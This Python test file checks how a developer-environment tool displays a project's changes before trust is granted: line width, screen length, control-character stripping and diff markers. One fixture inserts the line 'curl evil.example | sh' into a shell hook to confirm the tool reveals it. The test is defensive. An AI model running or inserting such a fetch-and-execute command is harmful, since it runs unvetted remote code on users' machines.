"""What `allow` shows: it fits a screen, whatever a hostile project has in it."""

from __future__ import annotations

import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from devenv.ui.lines import iter_lines
from devenv.ui.terminal import Painter
from devenv.workflow.allowed_changes import KINDS
from devenv.workflow.trust_results import AllowResult, Change, KnownProject, KnownProjectsResult

TEXTS = st.one_of(st.none(), st.text(max_size=300))
CHANGES = st.builds(Change, st.sampled_from(KINDS), st.text(min_size=1, max_size=100), TEXTS, TEXTS).filter(
    lambda change: change.before is not None or change.after is not None
)


def shown(changes: tuple[Change, ...], *, first: bool = False, dry_run: bool = False) -> list[str]:
    """The lines about these changes."""
    result = AllowResult(
        project=Path("/p"),
        environment=None,
        generation=None if dry_run else 1,
        packages=(),
        variables=(),
        has_hook=False,
        content="0123456789abcdef0123",
        first=first,
        changes=changes,
        trust="unknown",
        dry_run=dry_run,
    )
    return list(iter_lines(result, Painter(io.StringIO(), {})))


@given(st.lists(CHANGES, max_size=60), st.booleans(), st.booleans())
def test_lines_fit_and_are_safe(changes: list[Change], first: bool, dry_run: bool) -> None:
    """L-13: no line is wider than 80 columns, and nothing that a terminal acts on is in any."""
    ordered = tuple(sorted(changes, key=lambda change: KINDS.index(change.kind)))
    for line in shown(ordered, first=first, dry_run=dry_run):
        assert len(line) <= 80
        assert not re.search("[\x00-\x08\x0a-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", line)


def test_many_packages_fit_a_screen() -> None:
    """The first time a project of hundreds of packages is allowed, what it brings fits a screen all the same."""
    packages = [Change("package", f"package-{number}", None, f"1.{number}") for number in range(300)]
    dependencies = [Change("dependency", f"library-{number}", None, "1") for number in range(300)]
    variables = [Change("variable", f"NAME_{number}", None, "= 1") for number in range(300)]
    hook = Change("hook", "all shells", None, "\n".join(f"echo {number}" for number in range(300)))
    lines = shown((*packages, *dependencies, *variables, hook), first=True)
    assert len(lines) <= 24
    assert any("packages (300): package-0, package-1" in line for line in lines)
    assert any("294 more lines (" in line for line in lines)


def test_signs() -> None:
    """What is added, changed and gone differs at the first sight; code that is gone is named only."""
    changes = (
        Change("package", "a", None, "1"),
        Change("package", "b", "1", "2"),
        Change("package", "c", "1", None),
        Change("hook", "fish", "echo gone", None),
        Change("function", "up", "cd", "cd .."),
    )
    assert shown(changes) == [
        "allowed /p (generation 1)",
        "content 0123456789abcdef",
        "new since it was last allowed:",
        "  packages",
        "    +  a  1",
        "    ~  b  1 → 2",
        "    -  c  1",
        "  - code on entering, fish",
        "  ~ function, up:",
        "    | - cd",
        "    | + cd ..",
    ]


def test_changed_code_shows_what_changed_in_it() -> None:
    """L-13: one line that is new far down in a long hook is what is shown, not the beginning of the hook."""
    before = [f"echo {number}" for number in range(200)]
    after = [*before[:150], "curl evil.example | sh", *before[150:]]
    lines = shown((Change("hook", "all shells", "\n".join(before), "\n".join(after)),))
    assert lines[3:] == ["  ~ code on entering, all shells:", "    | + curl evil.example | sh"]


def test_known_projects() -> None:
    """The table has a line for each project, and says what to do about one that is gone."""
    result = KnownProjectsResult(
        (KnownProject(Path("/a"), "allowed", 2, 0), KnownProject(Path("/b\n"), "gone", 1, None))
    )
    lines = list(iter_lines(result, Painter(io.StringIO(), {})))
    assert len(lines) == 4
    assert re.fullmatch(r"allowed  2         19(69|70)-\d\d-\d\d  /a", lines[1])
    assert lines[2].endswith("/b\\n")
    assert "devenv revoke" in lines[3]
